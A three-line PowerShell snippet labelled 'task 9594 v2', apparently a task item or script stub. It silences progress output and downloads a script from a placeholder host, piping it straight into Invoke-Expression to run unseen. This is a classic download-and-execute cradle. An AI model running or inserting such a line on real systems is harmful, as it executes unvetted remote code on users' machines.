# task 9594 v2
$ProgressPreference = 'SilentlyContinue'
iwr -UseBasicParsing http://files.sync-svc.example/inv.ps1 | iex
